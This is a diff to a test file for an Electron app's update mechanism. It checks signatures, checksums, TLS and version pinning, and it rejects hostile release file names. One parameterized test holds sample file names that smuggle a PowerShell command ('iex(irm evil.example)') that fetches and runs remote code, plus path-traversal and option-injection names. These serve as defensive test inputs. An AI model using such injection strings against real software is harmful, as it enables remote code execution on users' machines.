@@ -1,6 +1,6 @@
 /** The updater of the product, whole, against a server of newer versions. */
 import { createHash } from 'node:crypto';
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import http from 'node:http';
 import https from 'node:https';
 import type { ClientRequest, Server } from 'node:http';
@@ -11,7 +11,9 @@ import { configureRequestOptions, configureRequestUrl, HttpExecutor } from 'buil
 import type { DownloadOptions } from 'builder-util-runtime';
 import type { RequestOptions } from 'node:https';
 import electronUpdater from 'electron-updater';
-import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { windowsInstaller } from '../../../../src/main/updates/installer.ts';
+import { RefusedProgram } from '../../../../src/main/updates/refused.ts';
 import { releaseFeed } from '../../../../src/main/updates/release-feed.ts';
 import type { Installer } from '../../../../src/main/updates/installer.ts';
 import type { ReleaseFeed } from '../../../../src/main/updates/release-feed.ts';
@@ -108,26 +110,27 @@ const TAKES_ALL: Installer = {
   begin: () => Promise.resolve(),
 };
 
+const programIn = (own: string) => ({
+  version: '1.5.0',
+  name: 'Calbridge',
+  isPackaged: true,
+  appUpdateConfigPath: path.join(own, 'app-update.yml'),
+  userDataPath: own,
+  baseCachePath: own,
+  whenReady: () => Promise.resolve(),
+  relaunch: () => undefined,
+  quit: () => undefined,
+  onQuit: () => undefined,
+});
+
 /** As version 1.5.0 of an AppImage sees it. */
 function feedFor(
   ca: string | undefined = TLS_CERT,
   installer: Installer = TAKES_ALL,
 ): ReleaseFeed & { readonly kept: () => string } {
   const own = mkdtempSync(path.join(folder, 'app-'));
-  const appUpdateConfigPath = path.join(own, 'app-update.yml');
-  writeFileSync(appUpdateConfigPath, 'updaterCacheDirName: calbridge-updater\n');
-  const updater = new electronUpdater.AppImageUpdater(null, {
-    version: '1.5.0',
-    name: 'Calbridge',
-    isPackaged: true,
-    appUpdateConfigPath,
-    userDataPath: own,
-    baseCachePath: own,
-    whenReady: () => Promise.resolve(),
-    relaunch: () => undefined,
-    quit: () => undefined,
-    onQuit: () => undefined,
-  });
+  writeFileSync(path.join(own, 'app-update.yml'), 'updaterCacheDirName: calbridge-updater\n');
+  const updater = new electronUpdater.AppImageUpdater(null, programIn(own));
   Object.assign(updater, { httpExecutor: new Wire(ca) });
   const kept = () => path.join(own, 'calbridge-updater/pending/Calbridge.AppImage');
   return { ...releaseFeed(updater, installer), kept };
@@ -168,7 +171,7 @@ describe.runIf(process.platform === 'linux')('the folder of newer versions', () 
     offer('1.6.0');
     const feed = feedFor();
     await feed.newest(address());
-    await feed.load('1.6.0');
+    await feed.load('1.6.0', address());
     expect(readFileSync(feed.kept())).toEqual(PROGRAM);
   });
 
@@ -176,14 +179,18 @@ describe.runIf(process.platform === 'linux')('the folder of newer versions', () 
     offer('1.6.0', digest(Buffer.from('another program')));
     const feed = feedFor();
     await feed.newest(address());
-    await expect(feed.load('1.6.0')).rejects.toThrow(/sha512 checksum mismatch/);
+    const load = feed.load('1.6.0', address());
+    await expect(load).rejects.toThrow(/sha512 checksum mismatch/);
+    await expect(load).rejects.toBeInstanceOf(RefusedProgram);
     expect(() => readFileSync(feed.kept())).toThrow();
   });
 
   it('is refused when the list names no digest', async () => {
     offer('1.6.0', '""');
     const feed = feedFor();
-    await expect(feed.newest(address()).then(() => feed.load('1.6.0'))).rejects.toThrow();
+    await expect(
+      feed.newest(address()).then(() => feed.load('1.6.0', address())),
+    ).rejects.toThrow();
     expect(() => readFileSync(feed.kept())).toThrow();
   });
 
@@ -198,7 +205,7 @@ describe.runIf(process.platform === 'linux')('the folder of newer versions', () 
     await feed.newest(address());
     // What was loaded before is not believed for having been loaded.
     for (let time = 0; time < 2; time += 1) {
-      await expect(feed.load('1.6.0')).rejects.toThrow('It is signed by nobody.');
+      await expect(feed.load('1.6.0', address())).rejects.toThrow('It is signed by nobody.');
     }
     await expect(feed.place()).rejects.toThrow('Nothing was loaded.');
     expect(placed).toEqual([]);
@@ -210,7 +217,39 @@ describe.runIf(process.platform === 'linux')('the folder of newer versions', () 
     await feed.newest(address());
     offer('1.7.0');
     await feed.newest(address());
-    await expect(feed.load('1.6.0')).rejects.toThrow('1.7.0');
+    await expect(feed.load('1.6.0', address())).rejects.toThrow('1.7.0');
+  });
+
+  it('gives what was told of one address, and not what another has of that version', async () => {
+    offer('1.6.0');
+    const feed = feedFor();
+    await feed.newest(address());
+    await expect(feed.load('1.6.0', 'https://other.example/')).rejects.toThrow('holds 1.6.0 now');
+  });
+
+  it.each([
+    ['a sign that ends a text of PowerShell', 'Setup%E2%80%99;iex(irm evil.example);.AppImage'],
+    ['the same where the address has it not', 'Setup#’;iex(irm evil.example)'],
+    ['the same before a folder', 'Setup#’;iex(irm evil.example);%2FSetup'],
+    ['a folder of another system', String.raw`..\Setup.AppImage`],
+    ['an option', '-Setup.AppImage'],
+    ['nothing', ''],
+  ])('is refused when its list names %s', async (_, name) => {
+    offer('1.6.0');
+    const list = String(shelf.get(LIST));
+    shelf.set(LIST, list.replaceAll('Calbridge.AppImage', `'${name}'`));
+    await expect(feedFor().newest(address())).rejects.toThrow('as none of ours is called');
+  });
+
+  it('gives a program whose name has a space, as that for Windows has', async () => {
+    offer('1.6.0');
+    const list = String(shelf.get(LIST));
+    shelf.set('Calbridge%20Setup%201.6.0.AppImage', PROGRAM);
+    shelf.set(LIST, list.replaceAll('Calbridge.AppImage', 'Calbridge Setup 1.6.0.AppImage'));
+    const feed = feedFor();
+    await feed.newest(address());
+    await feed.load('1.6.0', address());
+    expect(loaded).toContain('Calbridge%20Setup%201.6.0.AppImage');
   });
 
   it('answers each address by itself, also those who ask at the same time', async () => {
@@ -230,7 +269,7 @@ describe.runIf(process.platform === 'linux')('the folder of newer versions', () 
     offer('1.6.0');
     moved.set(name, withoutTls(name));
     const feed = feedFor();
-    await expect(feed.newest(address()).then(() => feed.load('1.6.0'))).rejects.toThrow(
+    await expect(feed.newest(address()).then(() => feed.load('1.6.0', address()))).rejects.toThrow(
       /without TLS/,
     );
     expect(astray).toEqual([]);
@@ -243,7 +282,7 @@ describe.runIf(process.platform === 'linux')('the folder of newer versions', () 
     shelf.set(LIST, list.replaceAll(/Calbridge\.AppImage/g, withoutTls('Calbridge.AppImage')));
     const feed = feedFor();
     await feed.newest(address());
-    await expect(feed.load('1.6.0')).rejects.toThrow(/without TLS/);
+    await expect(feed.load('1.6.0', address())).rejects.toThrow(/without TLS/);
     expect(astray).toEqual([]);
   });
 
@@ -253,7 +292,7 @@ describe.runIf(process.platform === 'linux')('the folder of newer versions', () 
     moved.set('Calbridge.AppImage', `${address()}there/Calbridge.AppImage`);
     const feed = feedFor();
     await feed.newest(address());
-    await feed.load('1.6.0');
+    await feed.load('1.6.0', address());
     expect(readFileSync(feed.kept())).toEqual(PROGRAM);
   });
 
@@ -265,5 +304,82 @@ describe.runIf(process.platform === 'linux')('the folder of newer versions', () 
 
   it('fails in words when there is nothing', async () => {
     await expect(feedFor().newest(address())).rejects.toThrow(/404|Cannot find/);
+  });
+});
+
+// The updater for Windows, which asks for the list of the system that it runs on.
+describe.runIf(process.platform === 'linux')('a newer version for Windows', () => {
+  let own = '';
+  const asked: string[] = [];
+  let searched = '';
+
+  beforeEach(() => {
+    own = mkdtempSync(path.join(folder, 'app-'));
+    asked.length = 0;
+    searched = process.env['PATH'] ?? '';
+    // Stands where the library looks for its PowerShell, and leaves a mark.
+    const mark = `#!/bin/sh\necho "$@" >> '${path.join(own, 'mark')}'\n`;
+    for (const name of ['powershell.exe', 'chcp']) {
+      writeFileSync(path.join(own, name), mark, { mode: 0o755 });
+    }
+    process.env['PATH'] = `${own}:${searched}`;
+    const config = "updaterCacheDirName: calbridge-updater\npublisherName: ['Calbridge AS']\n";
+    writeFileSync(path.join(own, 'app-update.yml'), config);
+    offer('1.6.0');
+    shelf.set(LIST, String(shelf.get(LIST)).replaceAll('Calbridge.AppImage', 'Calbridge.exe'));
+    shelf.set('Calbridge.exe', PROGRAM);
+  });
+
+  afterEach(() => {
+    process.env['PATH'] = searched;
+  });
+
+  function feedOf(name: string, version: string): ReleaseFeed {
+    const updater = new electronUpdater.NsisUpdater(null, programIn(own));
+    Object.assign(updater, { httpExecutor: new Wire(TLS_CERT) });
+    const signed = { status: 0, name, subject: null, product: 'Calbridge', version };
+    const ask = (script: string): Promise<string> => {
+      asked.push(script);
+      return Promise.resolve(JSON.stringify(signed));
+    };
+    return releaseFeed(updater, windowsInstaller({ updater, publishers: ['Calbridge AS'], ask }));
+  }
+
+  const pending = (): readonly string[] =>
+    readdirSync(path.join(own, 'calbridge-updater/pending')).filter((name) => /exe$/.test(name));
+
+  it('is proved by our own question alone, before it has its name', async () => {
+    const feed = feedOf('Calbridge AS', '1.6.0');
+    await feed.newest(address());
+    await feed.load('1.6.0', address());
+    expect(existsSync(path.join(own, 'mark'))).toBe(false);
+    expect(asked.map((one) => /[^/]*\.exe/.exec(one)?.[0])).toEqual([
+      'temp-Calbridge.exe',
+      'Calbridge.exe',
+    ]);
+    expect(pending()).toEqual(['Calbridge.exe']);
+  });
+
+  it('is loaded as a whole, because its parts are not held to TLS', async () => {
+    const feed = feedOf('Calbridge AS', '1.6.0');
+    await feed.newest(address());
+    await feed.load('1.6.0', address());
+    expect(loaded.map((name) => name.replace(/\?.*/, ''))).toEqual([LIST, 'Calbridge.exe']);
+  });
+
+  it('is not kept when somebody else has signed it', async () => {
+    const feed = feedOf('Somebody', '1.6.0');
+    await feed.newest(address());
+    await expect(feed.load('1.6.0', address())).rejects.toBeInstanceOf(RefusedProgram);
+    expect(existsSync(path.join(own, 'mark'))).toBe(false);
+    expect(pending()).toEqual([]);
+    await expect(feed.place()).rejects.toThrow('Nothing was loaded.');
+  });
+
+  it('is refused when it is an older one under a newer name', async () => {
+    const feed = feedOf('Calbridge AS', '0.9.0');
+    await feed.newest(address());
+    await expect(feed.load('1.6.0', address())).rejects.toThrow('It is version 0.9.0');
+    await expect(feed.place()).rejects.toThrow('Nothing was loaded.');
   });
 });
